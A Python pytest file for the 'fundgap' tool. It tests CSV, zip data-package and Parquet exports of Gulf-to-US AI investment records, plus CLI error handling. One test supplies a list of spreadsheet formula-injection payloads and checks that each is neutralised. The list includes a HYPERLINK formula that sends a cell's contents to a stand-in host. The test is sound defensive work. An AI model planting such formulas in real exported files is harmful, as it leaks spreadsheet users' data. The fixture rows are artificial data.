"""Snapshots: exact CSV text, neutralised formulas, numbers that stay numbers, a valid data package, typed Parquet."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime, timezone

import pandas as pd
import pyarrow.parquet as pq
import pytest
from frictionless import Package, validate

from fundgap import export
from fundgap.cli import main
from fundgap.filters import CountingRules, Filters, View
from fundgap.load import read_dataset
from fundgap.safety import neutralise_formula

CREATED = datetime(2026, 11, 23, 9, 30, tzinfo=timezone.utc)
HEADER = ('"figure_id","investor","investor_type","investor_country","investor_region","recipient","recipient_country",'
          '"recipient_region","flow_kind","amount_kind","amount_usd","amount_low_usd","amount_high_usd","amount_original",'
          '"currency_original","period_start","period_end","date_note","status","counted_in_totals","source_title",'
          '"source_publisher","source_url","source_date_published","source_grade","source_citation","quote",'
          '"quote_translation","notes","claim_id","claim_relation","part_of","record_id"')
GULF_US_CSV = (
    "\ufeff" + HEADER + "\r\n"
    '"kingdom_xai_b","Kingdom Holding","listed_holding_company","Saudi Arabia","Gulf","xAI","United States","United States",'
    '"equity_round_participation","exact",400000000,,,,,"2024-05",,,"VERIFIED",true,'
    '"Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI","Asharq Al-Awsat","https://english.aawsat.com/business/5095266",,'
    '"wire_copy","Asharq Al-Awsat, ""Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI"", n.d.",'
    '"This transaction follows KHC\'s previous investment at the same value in xAI during its Series B funding round.",,,,,,'
    '"kingdom_xai_b"\r\n'
    '"qia_anthropic_f","Qatar Investment Authority","sovereign_wealth_fund","Qatar","Gulf","Anthropic","United States","United States",'
    '"equity_round_participation","undisclosed",,,,,,"2025-09",,,"VERIFIED",true,'
    '"Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI","Asharq Al-Awsat","https://english.aawsat.com/business/5095266",,'
    '"wire_copy","Asharq Al-Awsat, ""Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI"", n.d.",'
    '"QIA emerged as one of the latest backers of Anthropic",,"Fixture row: an undisclosed ticket.",,,,"qia_anthropic_f"\r\n'
)
GULF_US = View(Filters(investor_region=("Gulf",), recipient_region=("United States",)))


@pytest.fixture(scope="module")
def data(fixture_data_dir):
    return read_dataset(fixture_data_dir)


def test_csv_text_is_exact_for_a_small_view(data):
    assert export.to_csv(export.snapshot(data.figures, GULF_US, data.version)).decode("utf-8") == GULF_US_CSV


@pytest.mark.parametrize(
    "payload",
    ["=1+1", "+1", "-1+1", "@SUM(1,1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)", 'a","=1+1', "  =1+1",
     '=HYPERLINK("https://example.invalid/?leak="&A1,"click")'],
)
def test_every_formula_payload_is_neutralised_in_the_csv(data, payload):
    figures = data.figures.copy()
    figures["notes"] = figures["notes"].astype(object)
    figures.loc[figures["figure_id"] == "kingdom_xai_b", "notes"] = payload
    snap = export.snapshot(figures, View(Filters(investor=("Kingdom Holding",))), data.version)
    rows = list(csv.reader(io.StringIO(export.to_csv(snap).decode("utf-8-sig"), newline="")))
    cell = rows[1][rows[0].index("notes")]
    assert cell == neutralise_formula(payload)
    first = payload.lstrip(" ")[:1]
    if first in "=+-@\t\r\n＝＋－＠":
        assert cell == "'" + payload  # shown as text, the original still readable after the quote
    else:
        assert cell == payload  # 'a","=1+1' is one quoted cell: the quote cannot open a new cell


def test_negative_numbers_stay_numeric(data):
    figures = data.figures.copy()
    figures.loc[figures["figure_id"] == "kingdom_xai_b", "amount_usd"] = -5.0
    snap = export.snapshot(figures, View(Filters(investor=("Kingdom Holding",))), data.version)
    line = export.to_csv(snap).decode("utf-8-sig").splitlines()[1]
    assert ',"exact",-5,,,,,"2024-05"' in line  # bare, unquoted: a spreadsheet reads a number


def test_snapshot_marks_what_the_counting_rules_count(data):
    view = View(Filters(investor=("SoftBank Group",)), CountingRules(secondary=False))
    assert export.snapshot(data.figures, view, data.version).rows["counted_in_totals"].tolist() == [False]
    view = View(Filters(investor=("SoftBank Group",)), CountingRules(secondary=True))
    assert export.snapshot(data.figures, view, data.version).rows["counted_in_totals"].tolist() == [True]


def test_zip_holds_csv_datapackage_and_readme_and_validates(data, tmp_path):
    blob = export.to_zip(export.snapshot(data.figures, GULF_US, data.version), CREATED, "https://fundgap.example/")
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        assert archive.namelist() == ["data.csv", "datapackage.json", "README.md"]
        archive.extractall(tmp_path)
        readme = archive.read("README.md").decode()
    assert (tmp_path / "data.csv").read_bytes().decode("utf-8") == GULF_US_CSV
    report = validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    package = Package(str(tmp_path / "datapackage.json"))
    assert package.version == data.version
    assert package.created == "2026-11-23T09:30:00Z"
    assert package.get_resource("figures").schema.get_field("amount_usd").type == "number"
    assert "- Filters: Gulf investors → United States, all years" in readme
    assert f"- Dataset version: {data.version}" in readme
    assert "<https://fundgap.example/?investor_region=Gulf&recipient_region=United+States>" in readme
    assert "- Downloaded: 2026-11-23 09:30 UTC" in readme
    assert "- Asharq Al-Awsat, \"Saudi Arabia's Kingdom Holding Buys $400 Million Stake in xAI\", n.d." in readme


def test_zip_differs_only_by_creation_time(data):
    snap = export.snapshot(data.figures, GULF_US, data.version)
    assert export.to_zip(snap, CREATED) == export.to_zip(snap, CREATED)
    assert export.to_zip(snap, CREATED) != export.to_zip(snap, datetime(2026, 11, 24, tzinfo=timezone.utc))


def test_parquet_has_typed_columns_and_carries_the_version(data):
    blob = export.to_parquet(export.snapshot(data.figures, GULF_US, data.version))
    table = pq.read_table(io.BytesIO(blob))
    assert str(table.schema.field("amount_usd").type) == "double"
    assert str(table.schema.field("counted_in_totals").type) == "bool"
    assert table.schema.metadata[b"fundgap.dataset_version"] == data.version.encode()
    assert table.column("figure_id").to_pylist() == ["kingdom_xai_b", "qia_anthropic_f"]


def test_file_names_carry_date_and_version():
    assert export.file_name("csv", "abc123", "2026-11-23") == "fundgap-2026-11-23-abc123.csv"


def test_cli_export_writes_exactly_the_dashboard_csv(fixture_data_dir, data, tmp_path):
    target = tmp_path / "out.csv"
    code = main(["export", "--format", "csv", "-o", str(target), "--data", str(fixture_data_dir),
                 "--investor-region", "Gulf", "--recipient-region", "United States"])
    assert code == 0
    assert target.read_bytes() == export.to_csv(export.snapshot(data.figures, GULF_US, data.version))


def test_cli_rejects_unknown_values_listing_the_valid_ones(fixture_data_dir, tmp_path, capsys):
    target = tmp_path / "out.csv"
    assert main(["export", "--format", "csv", "-o", str(target), "--data", str(fixture_data_dir), "--investor-region", "Mars"]) == 2
    err = capsys.readouterr().err
    assert "export failed: investor_region='Mars' (no such value in the data)" in err
    assert "valid --investor-region: China, Gulf, Japan" in err
    assert not target.exists()


def test_a_failed_export_leaves_no_partial_file_and_keeps_the_old_one(fixture_data_dir, tmp_path, monkeypatch):
    target = tmp_path / "out.parquet"
    target.write_bytes(b"previous export")

    def broken(*args, **kwargs):
        raise RuntimeError("killed midway (simulated)")

    monkeypatch.setattr(export, "to_parquet", broken)
    with pytest.raises(RuntimeError):
        main(["export", "--format", "parquet", "-o", str(target), "--data", str(fixture_data_dir)])
    assert target.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["out.parquet"]


def test_an_exception_during_the_write_leaves_no_partial_file(fixture_data_dir, tmp_path, monkeypatch):
    import fundgap.export_cli as export_cli

    target = tmp_path / "new.csv"
    real = export_cli.os.fdopen

    class Exploding:
        def __init__(self, handle, mode):
            self.stream = real(handle, mode)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.stream.close()

        def write(self, data):
            self.stream.write(data[: len(data) // 2])
            raise OSError("disk full (simulated)")

    monkeypatch.setattr(export_cli.os, "fdopen", Exploding)
    with pytest.raises(OSError):
        main(["export", "--format", "csv", "-o", str(target), "--data", str(fixture_data_dir)])
    assert list(tmp_path.iterdir()) == []


def test_datapackage_describes_every_column():
    described = {f["name"] for f in export.datapackage(
        export.Snapshot(pd.DataFrame(columns=export.COLUMNS), View(), "v"), CREATED, "https://x.example/")["resources"][0]["schema"]["fields"]}
    assert described == set(export.COLUMNS)
    assert json.dumps(export.EXPORT_FIELDS)  # plain data, serialisable
